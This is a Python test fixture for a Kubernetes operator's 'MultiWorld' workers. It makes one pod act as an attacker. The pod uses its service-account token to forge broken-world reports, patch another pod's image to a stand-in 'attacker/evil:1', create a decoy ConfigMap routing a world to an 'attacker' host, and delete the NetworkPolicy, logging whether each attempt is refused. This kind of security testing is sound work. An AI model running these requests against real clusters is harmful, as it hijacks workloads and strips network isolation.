"""A worker pod turned hostile, run for real in our worker image by
tests/kube/test_node_journeys.py (as `python -c`, so the image needs nothing of the tests).

Every pod of its MultiWorld runs it. The pod of member `attacker` attacks with all it holds,
its pod's environment and its multiworld.io token, then idles: it reports a world it holds no
rank in broken, reports its own world broken at an epoch to come; through the API server it
patches another member pod's image, creates a decoy world table and deletes its MultiWorld's
NetworkPolicy. Each outcome is one line of its log: `attack <what>: <how>`.
The other pods idle.
"""

import json
import os
import ssl
import time
import urllib.error
import urllib.request

from multiworld.channels import open_channel
from multiworld.contract import ENV_NAME, ENV_NAMESPACE, TOKEN_PATH, BrokenWorldReport, WorkerEnv

env = WorkerEnv.from_env(os.environ)
if env.pod.startswith(f"{os.environ[ENV_NAME]}-attacker-"):
    channel = open_channel(env.table, env.pod)
    channel.start(lambda table: None)
    (mine,) = env.worlds
    channel.report(BrokenWorldReport(world="victim", epoch=1, reason="forged", pod=env.pod))
    channel.report(BrokenWorldReport(world=mine.name, epoch=mine.epoch + 5, reason="forged", pod=env.pod))
    print("attack reports: sent", flush=True)
    namespace, name = os.environ[ENV_NAMESPACE], os.environ[ENV_NAME]
    api = f"https://{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
    with open(TOKEN_PATH) as token_file:
        token = token_file.read().strip()

    def attack(what, method, path, body=None, content_type="application/json"):
        """One API request with the pod's token; its outcome as one log line."""
        request = urllib.request.Request(
            f"{api}{path}",
            data=None if body is None else json.dumps(body).encode(),
            method=method,
            headers={"Authorization": f"Bearer {token}", "Content-Type": content_type},
        )
        try:
            urllib.request.urlopen(request, context=ssl._create_unverified_context(), timeout=30)
            print(f"attack {what}: allowed", flush=True)
        except urllib.error.HTTPError as error:
            print(f"attack {what}: refused {error.code}", flush=True)
        except OSError as error:
            print(f"attack {what}: no answer ({error})", flush=True)

    # Another member pod made to run other code; a decoy world table with a higher epoch;
    # the MultiWorld's NetworkPolicy gone.
    attack(
        "patch",
        "PATCH",
        f"/api/v1/namespaces/{namespace}/pods/{name}-leader-0",
        {"spec": {"containers": [{"name": "worker", "image": "attacker/evil:1"}]}},
        "application/merge-patch+json",
    )
    decoy = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": f"{name}-decoy-table"},
        "data": {"victim": json.dumps({"name": "victim", "epoch": 99, "host": "attacker", "port": 20000})},
    }
    attack("decoy table", "POST", f"/api/v1/namespaces/{namespace}/configmaps", decoy)
    attack("network policy", "DELETE", f"/apis/networking.k8s.io/v1/namespaces/{namespace}/networkpolicies/{name}")
while True:
    time.sleep(60)
